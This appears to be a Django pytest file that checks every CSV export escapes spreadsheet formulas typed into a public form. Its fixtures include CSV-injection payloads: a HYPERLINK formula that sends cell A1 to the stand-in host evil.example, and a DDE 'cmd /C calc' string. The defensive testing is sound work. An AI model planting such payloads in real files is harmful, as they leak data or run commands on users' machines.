"""CSV exports never hand a spreadsheet a formula typed into the public form."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from fiep_requests.models import RequestStatus
from meetings.models import ClaimStatus, PaymentClaim
from reports import metrics
from tests import factories

from .helpers import client_for, url_for
from .matrix import MATRIX


def test_inbox_export_neutralises_formulas_from_the_public_form(staff_client):
    factories.FacilitationRequestFactory(
        status=RequestStatus.SUBMITTED,
        student_first_name='=HYPERLINK("http://evil.example","x")',
        student_last_name="@SUM(A1)",
    )
    response = staff_client.get(reverse("fiep_requests:inbox-export"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    student = rows[1][3]
    assert student.startswith("'=")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


# --- Every export (issue 15, L-2) -------------------------------------------------------

NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_safe_cell_quotes_every_formula_prefix(text):
    from fiep.csvexport import safe_cell

    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-3", "+0.25", "-0.5", "1e-3", "-.5", "12"])
def test_safe_cell_keeps_plain_numbers(number):
    from fiep.csvexport import safe_cell

    assert safe_cell(number) == number


def _poison(world):
    """Formulas in every name an export writes: districts, students, facilitators."""
    for i, district in enumerate([world.district_a, world.district_b]):
        district.name = FORMULAS[i]
        district.save()
    for case in [world.scheduled.request, world.held.request, world.approved, world.awaiting]:
        case.student_first_name = FORMULAS[3]
        case.student_last_name = FORMULAS[4]
        case.school_name = FORMULAS[5]
        case.save()
    for facilitator in [world.f1, world.f2]:
        facilitator.last_name = FORMULAS[0]
        facilitator.first_name = FORMULAS[1]
        facilitator.vendor_number = FORMULAS[3]
        facilitator.save()
    PaymentClaim.objects.create(
        facilitator=world.f1,
        month=datetime.date(2025, 1, 1),
        status=ClaimStatus.APPROVED,
        hourly_rate=Decimal("75.00"),
        reviewed_at=timezone.now(),
    )


def _formula_cells(content):
    rows = csv.reader(io.StringIO(content.decode("utf-8")))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(cell)
    ]


def test_every_csv_export_neutralises_formulas(world):
    """Every URL of the project that answers with a CSV file, as office staff and as the
    administrator (the report exports also once per breakdown): no cell a spreadsheet
    would run. The known exports must all be found, so the test cannot pass empty."""
    _poison(world)
    today = timezone.localdate()
    period = f"?start={today.replace(year=today.year - 1).isoformat()}&end={today.isoformat()}"
    found = {}
    for role in ["staff", "admin"]:
        client = client_for(world, role)
        for name, entry in sorted(MATRIX.items()):
            if entry.method != "GET":
                continue
            url = url_for(world, name, entry, role)
            if name == "reports:export":
                url = url.split("?")[0] + period
            response = client.get(url)
            if not response.get("Content-Type", "").startswith("text/csv"):
                continue
            content = b"".join(response) if response.streaming else response.content
            found[(name, role)] = _formula_cells(content)
            if name == "reports:export":
                start, end = today.replace(year=today.year - 1), today
                for breakdown in metrics.compute(start, end).breakdowns:
                    response = client.get(f"{url}&breakdown={breakdown}")
                    assert response.status_code == 200
                    found[(f"{name}:{breakdown}", role)] = _formula_cells(response.content)
    names = {name.split(":breakdown")[0] for name, _role in found}
    assert {
        "fiep_requests:inbox-export",
        "facilitators:roster-export",
        "meetings:claims-csv",
        "reports:export",
    } <= names
    assert any(":" in n and n.startswith("reports:export:") for n, _r in found)
    assert {key: cells for key, cells in found.items() if cells} == {}
